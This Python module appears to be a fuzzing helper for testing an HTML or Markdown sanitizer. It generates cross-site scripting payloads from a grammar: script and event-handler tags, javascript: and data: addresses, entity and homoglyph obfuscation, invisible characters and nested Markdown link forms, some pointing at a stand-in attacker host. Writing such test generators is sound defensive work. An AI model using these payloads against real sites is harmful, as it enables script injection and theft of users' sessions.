"""Attacks made by a grammar: a few dangerous things, written in all the ways that have fooled some parser or filter."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

from attacks.texts import EVIL, RUN

_TAGS = (
    "script img svg iframe a math style form details video object embed base meta link input body xss marquee".split()
)
_EVENTS = "onerror onload onclick onfocus ontoggle onmouseover onpointerenter onanimationstart onbegin".split()
_SCHEMES = (
    "javascript: vbscript: data:text/html, data:image/svg+xml, blob: view-source: file:// // \\\\ /\\ https://".split()
)
_BLANKS = (" ", "/", "\n", "\t", "\f", "/**/", "  ", "\u00a0", " / ")
_QUOTES = ('"', "'", "", "`")
_INVISIBLE = ("\u200b", "\u202e", "\u2066", "\ufeff", "\u00ad", "\x01", "\u0085", "\u2028")
_LOOK_ALIKES = str.maketrans("aeiopcsrtx", "аеіорсѕгтх")


def _mixed(chance: random.Random, word: str) -> str:
    return "".join(chance.choice((mark.lower(), mark.upper())) for mark in word)


def _entities(chance: random.Random, word: str) -> str:
    ways: tuple[Callable[[str], str], ...] = (
        str, lambda mark: f"&#{ord(mark)};", lambda mark: f"&#x{ord(mark):X};", lambda mark: f"&#{ord(mark):07d}",
    )  # fmt: skip
    return "".join(chance.choice(ways)(mark) for mark in word)


def _split(chance: random.Random, word: str) -> str:
    at = chance.randrange(len(word) + 1)
    return word[:at] + chance.choice(("&#10;", "&Tab;", "&NewLine;", "\t", "%0a", "&#0;", *_INVISIBLE)) + word[at:]


def _same(_chance: random.Random, word: str) -> str:
    return word


def _foreign(_chance: random.Random, word: str) -> str:
    return word.translate(_LOOK_ALIKES)


_WAYS = (_same, _same, _mixed, _entities, _split, _foreign)


def _word(chance: random.Random, word: str) -> str:
    return chance.choice(_WAYS)(chance, word)


def _address(chance: random.Random) -> str:
    scheme = _word(chance, chance.choice(_SCHEMES))
    return scheme + chance.choice((RUN, f"alert({RUN})", f"{EVIL}/x", f"<script>{RUN}</script>", f"//%0a{RUN}"))


def _attribute(chance: random.Random) -> str:
    quote = chance.choice(_QUOTES)
    name = chance.choice(
        (chance.choice(_EVENTS), "style", "srcdoc", "href", "src", "formaction", "xlink:href", "id", "name")
    )
    value = chance.choice((RUN, _address(chance), f"background:url(//{EVIL}/)", "__config", "body"))
    return f"{_word(chance, name)}={quote}{value}{quote}"


def _tag(chance: random.Random) -> str:
    name = _word(chance, chance.choice(_TAGS))
    attributes = "".join(chance.choice(_BLANKS) + _attribute(chance) for _ in range(chance.randrange(4)))
    opening = chance.choice(("<", "<", "<", "<<", "< ", "\\<", "&lt;", "</", "<!--><", "<!", "<?", "%3C", "＜"))
    end = chance.choice((">", ">", "/>", "", " >", "&gt;", "\n>"))
    inside = chance.choice((RUN, "", "x", _shorter(chance)))
    return f"{opening}{name}{attributes}{end}{inside}{chance.choice((f'</{name}>', '', f'</{name} x>'))}"


def _shorter(chance: random.Random) -> str:
    return f"<img src=x {chance.choice(_EVENTS)}={RUN}>"


def _link(chance: random.Random) -> str:
    words = chance.choice(("x", _shorter(chance), "[y](z)", "`</a>`", "![a](b)", "]", "*a"))
    address = _address(chance)
    title = chance.choice(("", f' "{_shorter(chance)}"', f" '\"{_attribute(chance)}'", f" (x){{{_attribute(chance)}}}"))
    return chance.choice(
        (
            f"[{words}]({address}{title})", f"[{words}](<{address}>{title})", f"![{words}]({address}{title})",
            f"<{address}>", f"[{words}][r]\n\n[r]: {address}{title}", f"[r]\n\n[r]: <{address}>{title}",
            f"[![{words}]({address})]({address})", f"[{words}]({address}", f"[{words}]( {address} )", address,
            f"[{words}]({address}){{: {_attribute(chance)} }}", f"[[{words}]({address})]({address})",
        )
    )  # fmt: skip


_FRAMES = (
    "{}", "# {}", "## `{}`", "- {}", "> {}", "1. > - {}", "| {} |\n|---|\n| {} |", "**{}**", "`{}`", "``` {}\nx\n```",
    "    {}", '!!! note "{}"\n    {}', "[^1]\n\n[^1]: {}", "*[A]: {}\n\nA", "Kata {} kata.", "<div markdown>\n\n{}\n\n</div>",
    "<!-- {} -->", "<!--> {}", "<![CDATA[{}]]>", "<?php {} ?>", "</title></textarea>{}", "{}\n===", "Istilah\n:   {}",
    "<noscript>{}</noscript>", "<svg><style>{}</style></svg>", "<math><mtext>{}</mtext></math>", "{{# {} }}", "x\\\n{}",
)  # fmt: skip


def payloads(count: int, seed: int = 7) -> Iterator[str]:
    """Go through so many attacks; the seed decides which."""
    chance = random.Random(seed)  # noqa: S311 - nothing secret hangs on it
    for _ in range(count):
        inside = chance.choice((_tag, _tag, _link))(chance)
        frame = chance.choice(_FRAMES)
        yield frame.replace("{}", inside) if chance.random() < 0.8 else f"{inside}{frame.replace('{}', _tag(chance))}"
